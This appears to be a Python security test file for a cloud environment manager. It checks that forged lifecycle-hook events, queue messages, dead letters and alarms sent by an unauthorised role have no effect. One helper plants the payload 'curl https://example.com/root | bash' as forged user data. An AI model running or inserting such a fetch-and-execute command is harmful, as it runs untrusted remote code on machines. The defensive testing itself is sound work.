"""Forged messages that reach a consumer (S2): through an operator's role, by direct invocation, or by a forger's own hook.

Every claim of a message is looked up before any action, so that a forged message has no effect."""

import contextlib
import json
import unittest

from botocore.exceptions import ClientError

from fixture import (
    FORGER,
    HOOK_TOPIC,
    VICTIM,
    Attack,
    allow,
    batch,
    failed_invocation,
    found_waiting,
    hook_event,
    now,
    role_arn,
    spot_notice,
)

from local_cloud import PROJECT, ROOT, until

INVOKE = allow("lambda:InvokeFunction", resource=f"arn:aws:lambda:*:*:function:{PROJECT}-*")


class Messages(Attack):
    def test_a_forged_termination_drains_no_instance_in_service(self):
        """A role with lambda:InvokeFunction sends lifecycle-hook a termination of an instance in service: nothing is
        drained."""
        forged = hook_event(VICTIM, self.instance(), targetGroups=[self.deployment.targets])
        with self.registered_instance(), self.unharmed():
            self.invoke(self.forger(INVOKE), "lifecycle-hook", forged)

    def test_a_forged_termination_from_an_operators_role_drains_no_instance(self):
        """An operator of RedriveRoles sends a termination of an instance in service to the hook queue: nothing is drained."""
        forged = hook_event(VICTIM, self.instance())
        with self.unharmed():
            self.cloud.operator("sqs").send_message(**self.message("HookQueue", forged))
            self.processed("HookQueue")

    def test_a_forged_termination_deregisters_no_stranger(self):
        """A role with lambda:InvokeFunction names a stranger's instance and target group: both stay registered."""
        ec2, balancing = self.cloud.client("ec2"), self.cloud.client("elbv2")
        (instance,) = ec2.run_instances(ImageId="ami-12345678", MinCount=1, MaxCount=1)["Instances"]
        group = balancing.create_target_group(Name="stranger", Protocol="HTTP", Port=80, VpcId="vpc-1")["TargetGroups"][0]
        targets = group["TargetGroupArn"]
        balancing.register_targets(TargetGroupArn=targets, Targets=[{"Id": instance["InstanceId"]}])
        forged = hook_event(FORGER, instance["InstanceId"], targetGroups=[targets])
        with self.unharmed():
            self.invoke(self.forger(INVOKE), "lifecycle-hook", forged)
        self.assertEqual(self.registered(targets), [instance["InstanceId"]])

    def test_a_forged_launch_abandons_no_instance_and_writes_no_foreign_log(self):
        """A role with lambda:InvokeFunction sends a launch that waits with the forger's settings and log group: the launch
        waits on."""
        self.cloud.control("instances/make-unhealthy?count=1&how=not-ready", b"")
        self.scale(2)
        until("the launch waits", lambda: "Pending:Wait" in self.instances().values())
        (waiting,) = [instance for instance, state in self.instances().items() if state == "Pending:Wait"]
        try:
            settings = {"logGroup": FORGER.instance_logs, "gate": {"seconds": 1, "onTimeout": "Abandon"}}
            forged = found_waiting(hook_event(VICTIM, waiting, "launch", **settings))
            forged = batch(self.queue_arn("HookQueue"), forged, SentTimestamp="1767323045678")
            with self.unharmed():
                self.invoke(self.forger(INVOKE), "lifecycle-hook", forged)
            streams = self.cloud.client("logs").describe_log_streams(logGroupName=FORGER.instance_logs)["logStreams"]
            self.assertEqual([it["logStreamName"] for it in streams if waiting in it["logStreamName"]], [])
        finally:
            self.scale(1)
            hook = {"AutoScalingGroupName": VICTIM.group, "LifecycleHookName": VICTIM.name("launch-hook")}
            abandon = {**hook, "InstanceId": waiting, "LifecycleActionResult": "ABANDON"}
            with contextlib.suppress(ClientError):
                self.cloud.client("autoscaling").complete_lifecycle_action(**abandon)
            self.in_service(1)

    def test_a_hook_with_a_forgers_metadata_writes_no_foreign_log(self):
        """A role with autoscaling:PutLifecycleHook lets the hook of its own group name the victim's log group: no evidence is
        written there."""
        scaling, hook = self.forger(allow("autoscaling:PutLifecycleHook"))("autoscaling"), self.launch_hook(FORGER)
        metadata = {**json.loads(hook["NotificationMetadata"]), "logGroup": VICTIM.instance_logs, "environment": VICTIM.id}
        sweep = json.loads((ROOT / "events" / "lifecycle-hook" / "sweep.json").read_text())
        before = self.state()
        scaling.put_lifecycle_hook(**{**hook, "NotificationMetadata": json.dumps(metadata)})
        try:
            self.cloud.control("instances/make-unhealthy?count=1&how=failed-at:line%2012", b"")
            self.scale(2, FORGER)
            until("user data has failed", self.failed_instances)
            self.cloud.invoke("lifecycle-hook", sweep)
            self.assert_unchanged(before)
        finally:
            self.cloud.client("autoscaling").put_lifecycle_hook(**hook)
            # With the true metadata, the failed instance is abandoned and replaced.
            self.cloud.invoke("lifecycle-hook", sweep)
            self.in_service(2, FORGER)
            self.scale(1, FORGER)
            self.in_service(1, FORGER)

    def failed_instances(self):
        failed = [{"Name": "tag:envkeeper:user-data", "Values": ["failed at line 12"]}]
        return self.cloud.client("ec2").describe_instances(Filters=failed)["Reservations"]

    def launch_hook(self, environment):
        """The launch hook of an environment, as PutLifecycleHook takes it."""
        scaling = self.cloud.client("autoscaling")
        hooks = scaling.describe_lifecycle_hooks(AutoScalingGroupName=environment.group)["LifecycleHooks"]
        (hook,) = [it for it in hooks if it["LifecycleHookName"] == environment.name("launch-hook")]
        names = ("LifecycleTransition", "NotificationMetadata", "HeartbeatTimeout", "DefaultResult")
        names = ("AutoScalingGroupName", "LifecycleHookName", *names)
        return {name: hook[name] for name in names}

    def test_a_message_with_thousands_of_target_groups_makes_few_calls(self):
        """A role with lambda:InvokeFunction names 2,000 target groups in one message: a few calls look up the claim."""
        arn = "arn:aws:elasticloadbalancing:us-west-2:123456789012:targetgroup/t{0}/{0:016x}"
        forged = hook_event(VICTIM, self.instance(), targetGroups=[arn.format(number) for number in range(2000)])
        before = len(self.cloud.calls())
        with self.unharmed():
            self.invoke(self.forger(INVOKE), "lifecycle-hook", forged)
        calls = [it["operation"] for it in self.cloud.calls()[before:] if it.get("app") == "lifecycle-hook"]
        self.assertLess(len(calls), 50, calls[:60])

    def test_a_forged_spot_notice_drains_no_on_demand_instance(self):
        """A role with lambda:InvokeFunction announces the interruption of an on-demand instance: nothing is drained."""
        with self.unharmed():
            self.invoke(self.forger(INVOKE), "lifecycle-hook", spot_notice(self.instance()))

    def test_a_forged_rebalance_recommendation_drains_no_on_demand_instance(self):
        """A role with lambda:InvokeFunction recommends to rebalance an on-demand instance: nothing is drained."""
        forged = spot_notice(self.instance(), "EC2 Instance Rebalance Recommendation")
        with self.unharmed():
            self.invoke(self.forger(INVOKE), "lifecycle-hook", forged)

    def test_a_forged_follow_up_of_the_sweep_drains_no_instance(self):
        """A role with lambda:InvokeFunction sends the message that a sweep sends to itself: nothing is drained."""
        forged = found_waiting(hook_event(VICTIM, self.instance()))
        with self.unharmed():
            self.invoke(self.forger(INVOKE), "lifecycle-hook", batch(self.queue_arn("HookQueue"), forged))

    def test_a_hand_written_update_in_the_request_queue_changes_nothing(self):
        """An operator of RedriveRoles queues an Update of the victim that custom-resource never recorded: no effect, FAILED at
        the address in the message."""
        (response,) = self.a_queued_update_has_no_effect(VICTIM.owner)
        self.assertEqual(response["Status"], "FAILED", response)

    def test_an_update_of_another_owners_message_group_changes_nothing(self):
        """An operator of RedriveRoles queues an Update of the victim in the message group of the forger: no effect, no
        response."""
        self.assertEqual(self.a_queued_update_has_no_effect(FORGER.owner), [])

    def a_queued_update_has_no_effect(self, group):
        properties = {**self.deployment.victim, "UserDataScript": "curl https://example.com/root | bash"}
        forged = VICTIM.request("Update", properties, ResponseURL=self.cloud.responses.new_url())
        with self.unharmed():
            self.cloud.operator("sqs").send_message(**self.message("RequestQueue", forged, group))
            self.processed("RequestQueue")
        return self.cloud.responses.all_at(forged["ResponseURL"])

    def test_a_hand_written_remediation_in_the_request_queue_changes_nothing(self):
        """An operator of RedriveRoles queues a remediation by a rule that the victim does not have: no effect."""
        rule = {"Alarm": "launch-failures", "Action": "ScaleTo", "Capacity": 3}
        forged = {
            "Owner": VICTIM.owner,
            "Environment": VICTIM.id,
            "Alarm": VICTIM.name("launch-failures"),
            "SinceMs": 1,
            "Rule": json.dumps(rule),
            "ExpiresMs": 2**63,
        }
        with self.unharmed():
            message = self.message("RequestQueue", {"Remediation": forged}, VICTIM.owner)
            self.cloud.operator("sqs").send_message(**message)
            self.processed("RequestQueue")

    def test_a_hand_written_due_pass_in_the_request_queue_changes_nothing(self):
        """An operator of RedriveRoles requests a due pass of the victim, which has no work: no effect."""
        with self.unharmed():
            self.cloud.operator("sqs").send_message(**self.message("RequestQueue", {"Due": VICTIM.owner}, VICTIM.owner))
            self.processed("RequestQueue")

    def test_a_forged_dead_letter_replaces_no_status(self):
        """An operator of RedriveRoles sends the dead letter of an Update that custom-resource never recorded: status is
        unchanged."""
        forged = VICTIM.request("Update", self.deployment.victim, ResponseURL=self.cloud.responses.new_url())
        with self.unharmed():
            self.cloud.operator("sqs").send_message(**self.message("RequestDeadLetters", forged, VICTIM.owner))
            self.processed("RequestDeadLetters")

    def test_a_forged_failed_invocation_replaces_no_status(self):
        """An operator of RedriveRoles sends a failed invocation with the victim's ids: status is unchanged."""
        forged = VICTIM.request("Update", self.deployment.victim, ResponseURL=self.cloud.responses.new_url())
        with self.unharmed():
            self.cloud.operator("sqs").send_message(**self.message("FailedInvocations", failed_invocation(forged)))
            self.processed("FailedInvocations")

    def test_a_forged_dead_letter_by_direct_invocation_replaces_no_status(self):
        """A role with lambda:InvokeFunction passes the watchdog a failed invocation with the victim's ids: status is
        unchanged."""
        forged = VICTIM.request("Delete", self.deployment.victim, ResponseURL=self.cloud.responses.new_url())
        arn = self.queue_arn("FailedInvocations")
        with self.unharmed():
            self.invoke(self.forger(INVOKE), "watchdog", batch(arn, failed_invocation(forged), SentTimestamp="4102444800000"))

    def test_a_forged_alarm_causes_no_remediation(self):
        """A role with lambda:InvokeFunction reports the victim's alarm in ALARM to the function alarm: no effect."""
        forged = json.loads((ROOT / "events" / "alarm" / "event-bridge.json").read_text())
        # Earlier than the observed state: a later time could be that of a change that is not visible yet.
        forged["time"] = forged["detail"]["state"]["timestamp"] = now(-240)
        with self.unharmed():
            self.invoke(self.forger(INVOKE), "alarm", forged)
            self.processed("RequestQueue")

    def test_an_event_of_an_unknown_group_writes_no_ledger(self):
        """A role with lambda:InvokeFunction reports a launch in a group without a record to scaling-log: no ledger has it."""
        forged = json.loads((ROOT / "events" / "scaling-log" / "launch.json").read_text())
        forged["detail"]["AutoScalingGroupName"] = f"{PROJECT}-asg-uswest2-unknown"
        forged["detail"]["EC2InstanceId"] = "i-0000000000000f00d"
        with self.unharmed():
            self.invoke(self.forger(INVOKE), "scaling-log", batch(self.queue_arn("ScalingEventQueue"), forged))
        self.assertNotIn("i-0000000000000f00d", self.ledger_of(VICTIM) + self.ledger_of(FORGER))

    def ledger_of(self, environment):
        found = self.cloud.client("logs").filter_log_events(logGroupName=environment.ledger)
        return "\n".join(it["message"] for it in found["events"])

    # What still works.

    def test_a_hook_that_a_topic_delivers_completes_a_launch(self):
        """A topic of HookTopics delivers the victim's lifecycle action to the hook queue: the launch is completed by it."""
        events, sns, scaling = (self.cloud.client(it) for it in ("events", "sns", "autoscaling"))
        rules = [it["Name"] for it in events.list_rules()["Rules"]]
        rules = [it for it in rules if "LifecycleActionRule" in it or "LifecycleHookSweep" in it]
        self.assertEqual(sns.create_topic(Name="hooks")["TopicArn"], HOOK_TOPIC)
        sns.subscribe(TopicArn=HOOK_TOPIC, Protocol="sqs", Endpoint=self.queue_arn("HookQueue"))
        hook = self.launch_hook(VICTIM)
        self.cloud.principal("notifier", allow("sns:Publish", resource=HOOK_TOPIC))
        for rule in rules:
            events.disable_rule(Name=rule)
        try:
            scaling.put_lifecycle_hook(**hook, NotificationTargetARN=HOOK_TOPIC, RoleARN=role_arn("notifier"))
            self.scale(2)
            self.in_service(2)
        finally:
            for rule in rules:
                events.enable_rule(Name=rule)
            scaling.delete_lifecycle_hook(**{name: hook[name] for name in ("AutoScalingGroupName", "LifecycleHookName")})
            scaling.put_lifecycle_hook(**hook)
            self.scale(1)
            self.in_service(1)

    def test_an_operators_redrive_reaches_the_ledger(self):
        """An operator of RedriveRoles sends a real launch event to the ledger queue again: the ledger has it."""
        real = json.loads((ROOT / "events" / "scaling-log" / "launch.json").read_text())
        detail = {"EC2InstanceId": self.instance(), "ActivityId": "00000000-0000-4000-8000-0000000feed1"}
        real |= {"time": now(), "detail": {**real["detail"], **detail, "StartTime": now(-20), "EndTime": now()}}
        self.cloud.operator("sqs").send_message(**self.message("ScalingEventQueue", real))
        until("the ledger has the event", lambda: "0000000feed1" in self.ledger_of(VICTIM))

    @contextlib.contextmanager
    def registered_instance(self):
        """The victim's instance is registered with its target group within the block."""
        balancing, targets = self.cloud.client("elbv2"), [{"Id": self.instance()}]
        balancing.register_targets(TargetGroupArn=self.deployment.targets, Targets=targets)
        try:
            yield
        finally:
            balancing.deregister_targets(TargetGroupArn=self.deployment.targets, Targets=targets)


if __name__ == "__main__":
    unittest.main()
